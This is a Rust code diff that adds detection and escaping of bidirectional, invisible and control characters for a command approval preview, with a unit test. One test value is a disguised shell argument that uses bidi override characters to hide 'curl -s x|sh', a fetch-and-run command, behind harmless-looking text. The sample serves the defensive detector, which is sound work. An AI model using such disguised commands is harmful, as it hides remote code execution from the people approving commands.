@@ -162,9 +162,69 @@ pub fn flags_json(fields: &[(&str, &str)]) -> serde_json::Value {
     serde_json::to_value(found).unwrap_or_default()
 }
 
+/// The kind of flag `c` gets in running text (a command line, a message, bytes a terminal is
+/// sent), if any: the characters that print as nothing or change the order text prints in —
+/// bidirectional controls, invisible and format characters, control characters (the
+/// characters of `keep`, e.g. `\n` and `\t` of a multi-line text, are left alone) and
+/// whitespace other than the ASCII space (U+2028, U+00A0…). Look-alike letters are not
+/// flagged in text: they are ordinary in any language but English.
+pub fn text_flag(c: char, keep: &[char]) -> Option<FlagKind> {
+    if keep.contains(&c) {
+        return None;
+    }
+    match classify(c) {
+        Some((FlagKind::Lookalike, _)) | None => None,
+        Some((kind, _)) => Some(kind),
+    }
+}
+
+/// The kinds of misleading characters ([`text_flag`], `\n` and `\t` allowed) in `texts`,
+/// each once, in the order of [`FlagKind`]: what an approval preview carries as
+/// `text_flags` (empty when the text prints as its bytes).
+pub fn text_flags<'a>(texts: impl IntoIterator<Item = &'a str>) -> Vec<FlagKind> {
+    let mut found = Vec::new();
+    for c in texts.into_iter().flat_map(str::chars) {
+        if let Some(kind) = text_flag(c, &['\n', '\t'])
+            && !found.contains(&kind)
+        {
+            found.push(kind);
+        }
+    }
+    found.sort_by_key(|k| *k as u8);
+    found
+}
+
+/// `text` with every character [`text_flag`] flags (but those of `keep`) written as
+/// `\u{XXXX}` (lower-case hex, as the web page writes them), and whether any was.
+pub fn escape_text(text: &str, keep: &[char]) -> (String, bool) {
+    let mut out = String::with_capacity(text.len());
+    let mut escaped = false;
+    for c in text.chars() {
+        if text_flag(c, keep).is_some() {
+            out.push_str(&format!("\\u{{{:x}}}", u32::from(c)));
+            escaped = true;
+        } else {
+            out.push(c);
+        }
+    }
+    (out, escaped)
+}
+
 #[cfg(test)]
 mod tests {
     use super::*;
+
+    #[test]
+    fn text_flags_name_bidi_and_invisible_characters_but_not_newlines_or_letters() {
+        let args = ["-c", "echo build ok \u{202e}\u{2066}; curl -s x|sh #\u{2069}\u{2066}# verify\u{2069}\u{202c}"];
+        assert_eq!(text_flags(args), [FlagKind::BidiControl]);
+        assert_eq!(text_flags(["a\u{200b}b", "c\u{202e}"]), [FlagKind::Invisible, FlagKind::BidiControl]);
+        assert_eq!(text_flags(["ls -la\n", "a\tb", "привет", "café"]), Vec::<FlagKind>::new());
+        assert_eq!(text_flags(["a\u{1b}[2J", "x\u{2028}y"]), [FlagKind::Control, FlagKind::Whitespace]);
+        let (e, any) = escape_text("ok \u{202e}x\ny", &['\n']);
+        assert_eq!((e.as_str(), any), ("ok \\u{202e}x\ny", true));
+        assert_eq!(escape_text("plain\ttext", &['\t']), ("plain\ttext".to_owned(), false));
+    }
 
     fn kinds(path: &str) -> Vec<(FlagKind, String, Option<String>)> {
         check("path", path)
